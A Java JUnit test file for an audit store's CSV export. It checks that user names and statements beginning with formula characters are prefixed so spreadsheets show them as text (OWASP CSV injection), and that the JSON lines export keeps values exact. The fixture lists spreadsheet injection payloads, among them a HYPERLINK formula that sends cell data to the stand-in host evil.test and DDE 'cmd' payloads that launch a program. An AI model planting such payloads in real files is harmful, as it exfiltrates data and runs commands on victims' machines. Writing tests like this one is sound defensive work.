package io.rolegate.engine.store.audit;

import io.rolegate.engine.api.model.AuditEventType;
import io.rolegate.engine.api.model.AuditQuery;
import io.rolegate.engine.api.model.AuditEvent;
import io.rolegate.engine.api.model.Json;

import io.rolegate.engine.store.Store;
import io.rolegate.engine.testbed.TestStores;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.StringWriter;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 13 item 7: a client chooses its user name and its statements, and both land in the audit. An auditor who
 * opens the CSV export in a spreadsheet must see them as text, never run them as formulas (OWASP CSV injection).
 */
class AuditCsvInjectionTest {
    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

    @TempDir
    Path dir;
    Store store;

    @BeforeEach
    void open() {
        store = TestStores.H2.fresh(dir).open();
    }

    @AfterEach
    void close() {
        store.close();
    }

    @Test
    void hostileUserNamesAndQueriesAreTextInTheCsvExport() throws Exception {
        for (String formula : FORMULAS) {
            store.audit().append(AuditEvent.of(AuditEventType.AUTH_FAILED, formula).withUser(formula)
                    .withActor(formula).withSessionId(formula).withClientAddress(formula)).get();
            store.audit().append(AuditEvent.of(AuditEventType.QUERY, formula).withUser("alice")).get();
        }
        StringWriter out = new StringWriter();

        store.audit().exportCsv(AuditQuery.all(), out);

        List<List<String>> rows = parse(out.toString());
        assertThat(rows).hasSize(1 + 2 * FORMULAS.size());
        for (List<String> row : rows.subList(1, rows.size())) {
            for (String cell : row) {
                assertThat(cell).as("cell of " + row).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
        assertThat(rows.get(1).get(4)).isEqualTo("'" + FORMULAS.get(0));
        assertThat(rows.get(2).get(8)).isEqualTo("'" + FORMULAS.get(0));
    }

    @Test
    void ordinaryValuesAreLeftAsTheyAre() {
        assertThat(AuditExport.csvField("alice")).isEqualTo("alice");
        assertThat(AuditExport.csvField("a=b")).isEqualTo("a=b");
        assertThat(AuditExport.csvField("-")).isEqualTo("'-");
        assertThat(AuditExport.csvField("=1,2")).isEqualTo("\"'=1,2\"");
    }

    @Test
    void theJsonLinesExportStaysExact() throws Exception {
        store.audit().append(AuditEvent.of(AuditEventType.AUTH_FAILED, "x").withUser(FORMULAS.get(0))).get();
        StringWriter out = new StringWriter();

        store.audit().exportJsonl(AuditQuery.all(), out);

        assertThat(out.toString()).contains("\"user\":" + Json.quote(FORMULAS.get(0)));
    }

    /** RFC 4180: fields in double quotes may hold commas, line breaks and doubled quotes. */
    private static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        return rows;
    }
}
